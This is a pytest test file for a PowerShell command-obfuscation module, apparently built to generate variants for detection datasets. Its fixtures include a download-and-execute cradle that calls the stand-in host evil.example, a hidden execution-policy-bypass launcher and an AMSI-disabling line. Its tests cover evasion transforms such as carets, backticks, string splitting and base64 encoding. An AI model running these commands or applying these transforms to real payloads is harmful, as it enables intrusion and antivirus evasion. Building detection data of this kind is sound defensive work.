"""Obfuscation transforms: what each one changes, and what it must leave runnable and intact."""

from __future__ import annotations

import base64
import re
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vigil.datasets.obfuscation import (
    ESCAPE_LETTERS,
    OBFUSCATIONS,
    abbreviate_flags,
    base64_runs,
    classify_flag,
    encode_command,
    frombase64_wrap,
    insert_carets,
    insert_ticks,
    launcher_script,
    obfuscate,
    random_case,
    split_launcher,
    split_strings,
)
from vigil.testing.strategies import command_lines

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
LAUNCHER = (
    f'powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "{CRADLE}"'
)
AMSI = (
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
    ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
)
PLAIN_LINES = command_lines(plain=True)
SEEDS = st.integers(0, 2**32 - 1)


def without_concatenation(text: str) -> str:
    return re.sub(r"'\s*\+\s*'", "", re.sub(r'"\s*\+\s*"', "", text))


def canonical_flags(text: str) -> str:
    """Every -flag spelled out, flag values lower-cased: equal for equivalent launch lines."""
    text = re.sub(r"(?<=\s)[-/](\w+)", lambda m: "-" + classify_flag(m.group(1))[0], text)
    text = re.sub(r"(?i)-windowstyle (hidden|hid|1)\b", "-windowstyle hidden", text)
    return re.sub(r"(?i)(-executionpolicy \w+)", lambda m: m.group(1).lower(), text)


def encoded_payload(line: str) -> str:
    *_, flag, payload = line.split(" ")
    assert classify_flag(flag.lstrip("-/")) == ("encodedcommand", "encoded")
    return base64.b64decode(payload).decode("utf-16-le")


class TestSplitLauncher:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            (CRADLE, ("", CRADLE, "")),
            (LAUNCHER, (LAUNCHER[: LAUNCHER.index('"') + 1], CRADLE, '"')),
            ("pwsh -nop -c Get-Process", ("pwsh -nop -c ", "Get-Process", "")),
            ("powershell -w hidden IEX $x", ("powershell -w hidden ", "IEX $x", "")),
            ("powershell.exe -nop -enc SQBFAFgA", ("powershell.exe -nop -enc SQBFAFgA", "", "")),
            (
                '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoProfile -File C:\\x.ps1',
                ('"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoProfile -File C:\\x.ps1', "", ""),
            ),
            ("p^ower^shell -n^op -c dir", ("p^ower^shell -n^op -c ", "dir", "")),
            ("powershell", ("powershell", "", "")),
            ("", ("", "", "")),
        ],
    )
    def test_parts(self, text: str, expected: tuple[str, str, str]) -> None:
        assert split_launcher(text) == expected

    @given(st.text())
    def test_parts_always_rebuild_the_text(self, text: str) -> None:
        assert "".join(split_launcher(text)) == text

    def test_launcher_script_undoes_quote_escapes(self) -> None:
        assert launcher_script('powershell -c "Write-Host \\"hi\\""') == 'Write-Host "hi"'
        assert launcher_script("Get-Date") == "Get-Date"


@pytest.mark.parametrize(
    ("name", "canonical"),
    [
        ("e", "encodedcommand"),
        ("ec", "encodedcommand"),
        ("en", "encodedcommand"),
        ("EnC", "encodedcommand"),
        ("encodedcommand", "encodedcommand"),
        ("ep", "executionpolicy"),
        ("ex", "executionpolicy"),
        ("exec", "executionpolicy"),
        ("nop", "noprofile"),
        ("noni", "noninteractive"),
        ("w", "windowstyle"),
        ("win", "windowstyle"),
        ("c", "command"),
        ("f", "file"),
    ],
)
def test_flag_prefixes_and_aliases_resolve_like_powershell_exe(name: str, canonical: str) -> None:
    assert classify_flag(name)[0] == canonical


class TestEveryTransform:
    @pytest.mark.parametrize("name", list(OBFUSCATIONS))
    @given(
        text=st.one_of(st.text(), st.sampled_from(["", "-e", "'", '"', "powershell", "`"])),
        seed=SEEDS,
    )
    def test_accepts_any_text_and_is_deterministic(self, name: str, text: str, seed: int) -> None:
        transform = OBFUSCATIONS[name]
        out = transform(text, Random(seed))
        assert isinstance(out, str)
        assert out == transform(text, Random(seed))

    @pytest.mark.parametrize("name", list(OBFUSCATIONS))
    def test_changes_a_typical_launcher(self, name: str) -> None:
        assert any(OBFUSCATIONS[name](LAUNCHER, Random(seed)) != LAUNCHER for seed in range(5))


class TestRandomCase:
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_only_case_changes_and_literals_base64_and_urls_keep_theirs(
        self, line: str, seed: int
    ) -> None:
        out = random_case(line, Random(seed))
        assert out.lower() == line.lower()
        for start, end in base64_runs(line):
            assert out[start:end] == line[start:end]
        for url in re.findall(r"https?://[^\s'\"()]+", line):
            assert url in out
        _, script, _ = split_launcher(line)
        for literal in re.findall(r"'[^']*'", script):
            assert literal in out

    def test_encoded_payload_survives(self) -> None:
        out = random_case(encode_command(CRADLE, Random(1)), Random(2))
        assert encoded_payload(out) == CRADLE


class TestInsertTicks:
    @settings(max_examples=200)
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_removing_ticks_gives_the_original(self, line: str, seed: int) -> None:
        assert insert_ticks(line, Random(seed)).replace("`", "") == line.replace("`", "")

    @settings(max_examples=200)
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_a_tick_never_precedes_an_escape_letter(self, line: str, seed: int) -> None:
        out = insert_ticks(line, Random(seed))
        followers = [out[i + 1] for i, c in enumerate(out) if c == "`" and i + 1 < len(out)]
        original = [line[i + 1] for i, c in enumerate(line) if c == "`" and i + 1 < len(line)]
        added = list(followers)
        for c in original:
            added.remove(c)
        assert not any(c in ESCAPE_LETTERS or not c.isalpha() for c in added)

    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_launcher_literals_and_urls_are_untouched(self, line: str, seed: int) -> None:
        head, script, _ = split_launcher(line)
        out = insert_ticks(line, Random(seed))
        assert out.startswith(head)
        for literal in re.findall(r"'[^']*'", script):
            assert literal in out
        for url in re.findall(r"https?://[^\s'\"()]+", line):
            assert url in out

    def test_ticks_land_inside_names(self) -> None:
        out = insert_ticks(CRADLE, Random(0))
        assert "`" in out
        assert "'http://evil.example/a.ps1'" in out


class TestInsertCarets:
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_removing_carets_gives_the_original(self, line: str, seed: int) -> None:
        out = insert_carets(line, Random(seed))
        assert out.replace("^", "") == line.replace("^", "")

    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_carets_stay_in_the_launcher_outside_quotes(self, line: str, seed: int) -> None:
        head, script, tail = split_launcher(line)
        out = insert_carets(line, Random(seed))
        assert out.endswith(script + tail)
        new_head = out[: len(out) - len(script + tail)]
        outside = re.sub(r'"[^"]*"?', "", new_head)
        assert new_head.count("^") - head.count("^") == outside.count("^") - re.sub(
            r'"[^"]*"?', "", head
        ).count("^")

    def test_powershell_itself_gets_carets(self) -> None:
        out = insert_carets(LAUNCHER, Random(3))
        assert "^" in out
        assert out.replace("^", "") == LAUNCHER

    def test_bare_scripts_are_left_alone(self) -> None:
        assert insert_carets(CRADLE, Random(0)) == CRADLE


class TestSplitStrings:
    def test_splits_a_type_name_into_a_concatenation(self) -> None:
        outs = {split_strings("$w = New-Object ('Net.WebClient')", Random(s)) for s in range(20)}
        assert any(re.fullmatch(r"\$w = New-Object \('Net\.[\w.]*'\s*\+\s*'.*'\)", o) for o in outs)

    def test_double_quoted_literals_split_too(self) -> None:
        text = '[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")'
        outs = {split_strings(text, Random(s)) for s in range(20)}
        assert any('"+"' in o.replace(" ", "") for o in outs)

    @pytest.mark.parametrize(
        "text",
        [
            "Invoke-WebRequest -Uri 'http://srv/a.zip'",  # argument mode: '+' would not concatenate
            'Write-Host "$env:TEMP\\x"',  # expands a variable
            "$a = 'it''s'",  # escaped quote
            'sc.exe create x binPath= "cmd /c calc.exe"',  # an executable gets "+" literally
        ],
    )
    def test_leaves_literals_it_cannot_split_safely(self, text: str) -> None:
        assert all(split_strings(text, Random(s)) == text for s in range(20))

    @settings(max_examples=200)
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_removing_the_concatenations_gives_the_original(self, line: str, seed: int) -> None:
        out = split_strings(line, Random(seed))
        assert without_concatenation(out) == without_concatenation(line)

    def test_a_literal_only_line_round_trips_exactly(self) -> None:
        out = split_strings(AMSI, Random(5))
        assert out != AMSI
        assert without_concatenation(out) == AMSI


class TestEncodeCommand:
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_payload_decodes_to_the_script(self, line: str, seed: int) -> None:
        out = encode_command(line, Random(seed))
        assert encoded_payload(out) == launcher_script(line)

    @given(seed=SEEDS)
    def test_launcher_flags_are_ones_powershell_exe_accepts(self, seed: int) -> None:
        out = encode_command(CRADLE, Random(seed))
        head, script, _ = split_launcher(out)
        assert head == out
        assert not script
        tokens = out.split(" ")
        flag_tokens = [t for t in tokens[1:-1] if t[0] in "-/"]
        kinds = [classify_flag(t[1:])[0] for t in flag_tokens]
        assert kinds[-1] == "encodedcommand"
        assert set(kinds[:-1]) <= {
            "noprofile",
            "noninteractive",
            "windowstyle",
            "executionpolicy",
            "sta",
            "nologo",
            "inputformat",
        }

    def test_every_prefix_spelling_of_the_flag_shows_up(self) -> None:
        flags = {
            encode_command(CRADLE, Random(s), style="attacker").split(" ")[-2].lower()
            for s in range(400)
        }
        assert {"-e", "-ec", "-enc", "-encodedcommand"} <= flags | {
            f.replace("/", "-") for f in flags
        }
        assert any(f.startswith("/") for f in flags)

    def test_admin_style_reads_like_a_deployment_tool(self) -> None:
        out = encode_command("Get-Service", Random(0), style="admin")
        assert "-NonInteractive" in out or "-NoProfile" in out


class TestFromBase64Wrap:
    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_payload_decodes_to_the_script(self, line: str, seed: int) -> None:
        out = frombase64_wrap(line, Random(seed))
        match = re.search(
            r"::(Unicode|UTF8)\.GetString\(\[Convert\]::FromBase64String\('([^']*)'\)\)", out
        )
        assert match is not None
        encoding = "utf-16-le" if match.group(1) == "Unicode" else "utf-8"
        assert base64.b64decode(match.group(2)).decode(encoding) == launcher_script(line)

    def test_inside_a_command_launcher_only_the_script_is_wrapped(self) -> None:
        out = frombase64_wrap(LAUNCHER, Random(0))
        assert out.startswith(LAUNCHER[: LAUNCHER.index('"') + 1])
        assert "FromBase64String" in out


class TestAbbreviateFlags:
    def test_long_flags_become_short(self) -> None:
        outs = {abbreviate_flags(LAUNCHER, Random(s)) for s in range(30)}
        assert any("-nop " in o.lower() or "-noprof " in o.lower() for o in outs)
        assert any(re.search(r"-(ep|exec|ex) ", o, re.IGNORECASE) for o in outs)
        assert any(re.search(r"-w(in|ind|indow)? (hidden|hid|1)\b", o, re.IGNORECASE) for o in outs)

    @given(line=PLAIN_LINES, seed=SEEDS)
    def test_every_flag_keeps_its_meaning(self, line: str, seed: int) -> None:
        out = abbreviate_flags(line, Random(seed))
        assert canonical_flags(out) == canonical_flags(line)
        assert split_launcher(out)[0] == "" or split_launcher(line)[0] != ""

    def test_start_process_parameters_are_not_launcher_flags(self) -> None:
        text = "Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile -File s.ps1'"
        assert all(abbreviate_flags(text, Random(s)) == text for s in range(20))

    def test_nested_launchers_are_abbreviated_too(self) -> None:
        text = (
            'schtasks /create /tn "x" /tr "powershell.exe -NoProfile -NonInteractive -File a.ps1"'
        )
        assert any(abbreviate_flags(text, Random(s)) != text for s in range(5))


class TestObfuscate:
    def test_named_transforms_apply_in_the_given_order(self) -> None:
        rng = Random(0)
        expected = random_case(insert_ticks(CRADLE, rng), rng)
        assert obfuscate(CRADLE, Random(0), names=["insert_ticks", "random_case"]) == expected

    def test_random_selection_is_reproducible(self) -> None:
        assert obfuscate(LAUNCHER, Random(9)) == obfuscate(LAUNCHER, Random(9))
        assert any(obfuscate(LAUNCHER, Random(s)) != LAUNCHER for s in range(5))

    def test_unknown_name_is_refused(self) -> None:
        with pytest.raises(KeyError, match="rot13"):
            obfuscate(CRADLE, Random(0), names=["rot13"])
